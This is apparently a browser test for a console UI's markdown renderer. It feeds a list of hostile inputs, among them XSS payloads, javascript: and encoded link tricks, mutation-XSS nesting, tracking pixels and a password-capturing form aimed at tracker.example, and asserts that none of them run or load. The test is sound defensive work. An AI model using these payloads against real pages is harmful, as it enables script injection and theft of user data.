import { fileURLToPath } from 'node:url';
import { rolldown } from 'rolldown';
import { beforeAll, expect, test } from 'vitest';
import { openWindow } from './support/browser.ts';
import { servePage } from './support/serve-page.ts';

const SOURCE = fileURLToPath(new URL('../../core-plugins/console/ui/src/markdown/render.ts', import.meta.url));

/** Texts that a model, or what it read, could send to make a browser run, load, send or hide something. */
const HOSTILE = [
  '<script>window.ran = 1</script>',
  '<img src=x onerror="window.ran = 1">',
  '![pixel](https://tracker.example/pixel.png?secret=1)',
  '![pixel][ref]\n\n[ref]: https://tracker.example/by-reference.png',
  '<img src="https://tracker.example/raw.png">',
  '<picture><source srcset="https://tracker.example/a.png"><img src=x></picture>',
  '<svg onload="window.ran = 1"><image href="https://tracker.example/svg.png"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.ran = 1"></style></mglyph></table></mtext></math>',
  '<iframe src="https://tracker.example/frame"></iframe><object data="https://tracker.example/o"></object>',
  '<link rel="stylesheet" href="https://tracker.example/a.css"><style>@import "https://tracker.example/b.css";</style>',
  '<p style="background: url(https://tracker.example/bg.png)">x</p>',
  '<video src="https://tracker.example/v.mp4" autoplay></video><audio src="https://tracker.example/a.ogg" autoplay></audio>',
  '<form action="https://tracker.example/"><input name="password"><button>Go</button></form>',
  '<meta http-equiv="refresh" content="0; url=https://tracker.example/">',
  '<base href="https://tracker.example/">',
  '[click](javascript:window.ran=1)',
  '[click](JaVaScRiPt:window.ran=1)',
  '[click](&#106;avascript:window.ran=1)',
  '[click](java\tscript:window.ran=1)',
  '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)',
  '[click](vbscript:window.ran=1)',
  '<javascript:window.ran=1>',
  '<a href="javascript:window.ran=1" onmouseover="window.ran=1">x</a>',
  '[x](https://a.example "onmouseover=window.ran=1 \\" autofocus onfocus=window.ran=1")',
  '```html"><img src=x onerror=window.ran=1>\ncode\n```',
  '| a |\n| --- |\n| <img src=x onerror=window.ran=1> |',
  '- [x] <img src=x onerror=window.ran=1>',
  '# <img src=x onerror=window.ran=1>',
  '&lt;img src=x onerror=window.ran=1&gt;',
  '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
  '<div id="app" name="body" class="fixed inset-0">clobber</div>',
];

let script = '';
beforeAll(async () => {
  const bundle = await rolldown({ input: SOURCE, platform: 'browser' });
  const { output } = await bundle.generate({ format: 'iife', name: 'markdown' });
  script = output[0].code;
  await bundle.close();
});

test('nothing that a reply can say runs, loads, sends or escapes its frame in a real browser [SEC-8, UI-2]', async (context) => {
  const url = await servePage('<!doctype html><title>Markdown</title><div id="view"></div>');
  const { page, faults } = await openWindow(context, url);
  await page.evaluate(script.replace(/^var markdown/, 'globalThis.markdown'));
  const rendered = await page.evaluate((texts) => {
    const { markdown } = globalThis as unknown as {
      markdown: { createRenderer(words: object): (text: string) => string[] };
    };
    const render = markdown.createRenderer({ picture: (host?: string) => `Picture from ${host ?? 'nowhere'}` });
    const view = document.querySelector('#view') as HTMLElement;
    return texts.map((text) => {
      const part = document.createElement('section');
      part.innerHTML = render(text).join('');
      view.append(part);
      const elements = [...part.querySelectorAll('*')];
      return {
        text,
        tags: [...new Set(elements.map(({ localName }) => localName))],
        attributes: [...new Set(elements.flatMap((element) => element.getAttributeNames()))],
        addresses: [...part.querySelectorAll('[href]')].map((element) => element.getAttribute('href') ?? ''),
        classes: elements.flatMap((element) => [...element.classList]),
      };
    });
  }, HOSTILE);
  for (const link of await page.locator('#view a').all()) await link.dispatchEvent('mouseover');
  await page.waitForTimeout(300);

  const allowed =
    'p br hr h1 h2 h3 blockquote pre code div span a ul ol li strong em del table thead tbody tr th td input'.split(
      ' ',
    );
  for (const { text, tags, attributes, addresses, classes } of rendered) {
    expect(
      tags.filter((tag) => !allowed.includes(tag)),
      text,
    ).toEqual([]);
    expect(
      attributes.filter((name) => /^on|style|src|srcset|name|^id$/.test(name)),
      text,
    ).toEqual([]);
    expect(
      addresses.filter((address) => !/^(https?|mailto):/.test(address)),
      text,
    ).toEqual([]);
    expect(
      classes.filter((name) => !['picture', 'link-host', 'scroll'].includes(name)),
      text,
    ).toEqual([]);
  }
  expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
  expect(faults).toEqual([]);
  expect(await page.getByText('pixel · Picture from tracker.example').count()).toBe(2);
}, 60_000);
